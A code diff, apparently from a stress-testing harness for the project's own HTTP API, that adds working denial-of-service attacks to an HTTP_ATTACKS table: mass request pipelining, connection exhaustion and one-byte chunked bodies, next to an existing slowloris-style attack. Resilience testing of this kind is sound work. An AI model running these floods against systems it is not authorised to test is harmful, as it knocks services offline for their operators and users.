@@ -84,6 +84,45 @@ export const HTTP_ATTACKS: Readonly<Record<string, Attack>> = {
     return `${sent} plans of 100 nodes`
   },
 
+  'pipelined-requests': async ([target]) => {
+    const many = Buffer.from('GET /v1/owner?key=a HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(50_000))
+    const sockets = await openMany(target, 100, () => many)
+    for (const socket of sockets) socket.resume()
+    await pause(HOLD_MS)
+    return `${sockets.length} connections with 50,000 requests each, sent at once`
+  },
+
+  'pipelined-requests-nobody-reads': async ([target]) => {
+    const many = Buffer.from('GET /v1/owner?key=a HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(50_000))
+    const sockets = await openMany(target, 100, () => many)
+    await pause(HOLD_MS)
+    return `${sockets.length} connections with 50,000 requests each, sent at once`
+  },
+
+  'a-request-on-each-connection-at-once': async ([target]) => {
+    const sockets = await openMany(target, 900, () => undefined)
+    let rounds = 0
+    for (const endMs = performance.now() + HOLD_MS; performance.now() < endMs; rounds++) {
+      for (const socket of sockets) socket.write('GET /v1/owner?key=a HTTP/1.1\r\nHost: a\r\n\r\n')
+      await pause(500)
+    }
+    return `${rounds} times a request on each of ${sockets.length} connections`
+  },
+
+  'bodies-in-small-chunks': async ([target]) => {
+    const head =
+      'POST /v1/owners HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n'
+    const chunks = Buffer.from(head + '1\r\n \r\n'.repeat(300_000))
+    let opened = 0
+    for (const endMs = performance.now() + HOLD_MS; performance.now() < endMs;) {
+      const sockets = await openMany(target, 50, () => chunks)
+      await pause(500)
+      for (const socket of sockets) socket.destroy()
+      opened += sockets.length
+    }
+    return `${opened} bodies in chunks of one byte`
+  },
+
   'unfinished-heads': async ([target]) => {
     const head = Buffer.from(`GET /v1/owner?key=a HTTP/1.1\r\nHost: a\r\nX: ${'a'.repeat(250 * 1024)}`)
     const sockets = await openMany(target, 1200, () => head)
